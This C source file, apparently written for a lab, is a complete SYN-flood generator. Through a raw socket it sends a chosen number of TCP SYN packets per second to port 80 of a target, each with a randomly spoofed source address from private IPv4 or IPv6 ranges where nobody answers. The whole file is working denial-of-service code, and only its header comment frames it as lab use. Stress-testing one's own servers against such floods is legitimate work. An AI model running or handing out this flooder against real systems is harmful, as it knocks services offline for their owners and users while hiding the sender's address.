/*
 * A flood of SYNs from clients that do not exist.
 *
 *   lab-syn TARGET COUNT PER_SECOND
 *
 * Sends COUNT TCP SYNs to port 80 of TARGET (IPv4 or IPv6), in batches, each from a random port of
 * a random address in 10.78.128.0/17 or fd78::8000:0:0/96: nets that the servers have a route to,
 * so that they answer, and where nobody lives. PER_SECOND 0 is as fast as it goes. Prints how many
 * were sent and how many microseconds that took. By a raw socket, so that they go where ARP and NDP
 * say, also when that changes.
 */
#include "checksum.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    BATCH = 64,
    MSS_OPTION = 4,
    TCP_BYTES = sizeof(struct tcphdr) + MSS_OPTION,
    LONGEST = sizeof(struct ip6_hdr) + TCP_BYTES,
};

static int family;
static union {
    struct sockaddr any;
    struct sockaddr_in v4;
    struct sockaddr_in6 v6;
} target;
static uint64_t state = 1;

static void die(const char *what)
{
    fprintf(stderr, "lab-syn: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint64_t now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

/* xorshift64*, by S. Vigna. */
static uint64_t next(void)
{
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return state * 2685821657736338717u;
}

static size_t head4(unsigned char *packet, uint64_t random, uint32_t *pseudo)
{
    struct iphdr *ip = (struct iphdr *)packet;

    *ip = (struct iphdr){.version = 4,
                         .ihl = 5,
                         .ttl = 60,
                         .protocol = IPPROTO_TCP,
                         .saddr = htonl(0x0a4e8000u | (random & 0x7fff)),
                         .daddr = target.v4.sin_addr.s_addr};
    ip->tot_len = htons((uint16_t)(sizeof *ip + TCP_BYTES));
    ip->check = fold(sum(0, ip, sizeof *ip));
    *pseudo = sum(0, &ip->saddr, 8);
    return sizeof *ip;
}

static size_t head6(unsigned char *packet, uint64_t random, uint32_t *pseudo)
{
    struct ip6_hdr *ip = (struct ip6_hdr *)packet;
    uint16_t low[3] = {htons(0x8000), (uint16_t)random, (uint16_t)(random >> 16)};

    memset(ip, 0, sizeof *ip);
    ip->ip6_vfc = 0x60;
    ip->ip6_hlim = 60;
    ip->ip6_nxt = IPPROTO_TCP;
    ip->ip6_plen = htons(TCP_BYTES);
    inet_pton(AF_INET6, "fd78::", &ip->ip6_src);
    memcpy((unsigned char *)&ip->ip6_src + 10, low, sizeof low);
    ip->ip6_dst = target.v6.sin6_addr;
    *pseudo = sum(0, &ip->ip6_src, 32);
    return sizeof *ip;
}

static size_t build(unsigned char *packet)
{
    uint64_t random = next();
    uint32_t pseudo;
    size_t head =
        family == AF_INET ? head4(packet, random, &pseudo) : head6(packet, random, &pseudo);
    struct tcphdr *tcp = (struct tcphdr *)(packet + head);
    static const unsigned char mss[MSS_OPTION] = {2, 4, 1440 >> 8, 1440 & 0xff};
    *tcp = (struct tcphdr){.source = htons((uint16_t)(1024 + (random >> 32) % 64512)),
                           .dest = htons(80),
                           .seq = (uint32_t)(random >> 24),
                           .doff = TCP_BYTES / 4,
                           .syn = 1,
                           .window = htons(64240)};
    memcpy(tcp + 1, mss, sizeof mss);
    tcp->check = fold(sum(pseudo + IPPROTO_TCP + TCP_BYTES, tcp, TCP_BYTES));
    return head + TCP_BYTES;
}

int main(int argc, char **argv)
{
    static unsigned char packets[BATCH][LONGEST];
    static struct mmsghdr messages[BATCH];
    static struct iovec pieces[BATCH];
    uint64_t sent = 0;

    if (argc != 4) {
        fprintf(stderr, "usage: lab-syn TARGET COUNT PER_SECOND\n");
        return 2;
    }
    family = strchr(argv[1], ':') ? AF_INET6 : AF_INET;
    target.any.sa_family = (sa_family_t)family;
    if (inet_pton(family, argv[1],
                  family == AF_INET ? (void *)&target.v4.sin_addr : &target.v6.sin6_addr) != 1)
        die(argv[1]);
    uint64_t count = strtoull(argv[2], NULL, 10);
    double rate = strtod(argv[3], NULL);
    int s = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    /* Connected, so that the kernel need not look for a source address that the packets have. */
    if (s < 0 || connect(s, &target.any, family == AF_INET ? sizeof target.v4 : sizeof target.v6))
        die("raw socket");
    uint64_t begun = now();

    while (sent < count) {
        unsigned batch = count - sent < BATCH ? (unsigned)(count - sent) : BATCH;
        for (unsigned i = 0; i < batch; i++) {
            pieces[i] = (struct iovec){packets[i], build(packets[i])};
            messages[i].msg_hdr = (struct msghdr){.msg_iov = &pieces[i], .msg_iovlen = 1};
        }
        while (rate > 0 && (double)(now() - begun) * rate / 1e9 < (double)sent) {
            struct timespec nap = {0, 200000};
            nanosleep(&nap, NULL);
        }
        for (unsigned done = 0; done < batch;) {
            int n = sendmmsg(s, messages + done, batch - done, 0);
            if (n < 0 && errno != ENOBUFS && errno != EINTR)
                die("sendmmsg");
            done += n > 0 ? (unsigned)n : 0;
        }
        sent += batch;
    }
    printf("%llu %llu\n", (unsigned long long)sent, (unsigned long long)(now() - begun) / 1000);
    return 0;
}
